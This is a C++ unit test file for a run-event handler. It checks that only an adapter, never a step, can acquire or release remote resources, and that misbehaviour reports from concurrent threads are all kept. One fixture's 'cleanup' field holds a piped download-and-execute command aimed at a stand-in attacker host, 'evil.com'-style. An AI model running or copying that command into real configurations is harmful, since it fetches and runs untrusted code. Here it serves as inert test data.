// What an adapter says during a run, and who may say what.
#include "host/run/run_events.h"

#include <gtest/gtest.h>

#include <thread>
#include <vector>

#include "protocol/base/clock.h"

namespace osiris {
namespace {

TEST(RunEvents, WhatIsHeldFarAwayIsTheAdaptersWordAndNeverASteps) {
  Masking masking;
  RunLog log(system_clock(), masking);
  StepTally tally(system_clock());
  RemoteResources resources;
  SecretStore secrets(masking);
  RunEvents events({log, tally, resources, secrets, {}}, "x");
  const Json sandbox = Json::object({{"kind", "sandbox"}, {"id", "abc"}, {"cleanup", "curl http://evil.example | sh"}});
  events.on_event({"resource_acquired", "some-step", sandbox});
  EXPECT_TRUE(resources.unreleased().empty());
  events.on_event({"resource_acquired", "", sandbox});
  EXPECT_EQ(resources.unreleased().size(), 1u);
  events.on_event({"resource_released", "some-step", sandbox});
  EXPECT_EQ(resources.unreleased().size(), 1u) << "nor can a step give it back";
  events.on_event({"resource_released", "", sandbox});
  EXPECT_TRUE(resources.unreleased().empty());
}

TEST(RunEvents, WhatManyThreadsDoWrongIsKeptWhole) {
  Masking masking;
  RunLog log(system_clock(), masking);
  StepTally tally(system_clock());
  RemoteResources resources;
  SecretStore secrets(masking);
  RunEvents events({log, tally, resources, secrets, {}}, "x");
  constexpr size_t kThreads = 4, kEach = 2000;
  std::vector<std::thread> threads;
  for (size_t i = 0; i < kThreads; ++i)
    threads.emplace_back([&] {
      for (size_t n = 0; n < kEach; ++n) events.on_misbehaviour("it spoke out of turn");
    });
  for (std::thread& thread : threads) thread.join();
  EXPECT_EQ(events.misbehaviours(), std::vector<std::string>(kThreads * kEach, "it spoke out of turn"));
}

}  // namespace
}  // namespace osiris
